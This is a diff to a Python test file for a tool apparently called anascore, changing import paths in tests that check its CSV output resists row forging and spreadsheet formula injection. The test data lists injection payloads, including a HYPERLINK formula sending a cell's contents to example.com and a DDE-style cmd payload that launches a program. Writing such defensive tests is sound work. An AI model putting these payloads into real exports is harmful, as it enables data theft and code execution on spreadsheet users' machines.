@@ -1,5 +1,5 @@
 """Every CSV anascore writes (``score``, ``score --group-by``, ``errors``, ``evaluate``,
-``lab``, the dominant-mention class table) goes through :mod:`anascore.csv_output`:
+``lab``, the dominant-mention class table) goes through :mod:`anascore.formats.io.csv_output`:
 
 * read back with :mod:`csv`, every cell is what was written: a document named
   ``x",1.0,1.0,1.0,1.0,1.0,1.0,"y`` cannot forge its row's numbers;
@@ -19,8 +19,8 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from anascore.cli import main
-from anascore.csv_output import FORMULA_STARTS, csv_rows, spreadsheet_safe
+from anascore.cli.main import main
+from anascore.formats.io.csv_output import FORMULA_STARTS, csv_rows, spreadsheet_safe
 
 FORGING = 'x",1.0,1.0,1.0,1.0,1.0,1.0,"y'
 FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
@@ -153,7 +153,7 @@ def test_dominant_class_table_neutralises_class_names() -> None:
 
 
 def test_lab_csv_neutralises_labels() -> None:
-    from anascore import lab
+    from anascore.lab import sensitivity as lab
 
     experiment = lab.Experiment(0, "=x", "x", (lab.Point("-label", -0.5, {"muc": _score(0.5)}),))
     rows = read_back(lab.render_lab([experiment], "csv"))
@@ -161,7 +161,7 @@ def test_lab_csv_neutralises_labels() -> None:
 
 
 def _score(value: float):
-    from anascore.scores import Score
+    from anascore.metrics.scores import Score
     return Score.from_counts(value, 1, value, 1)
 
 
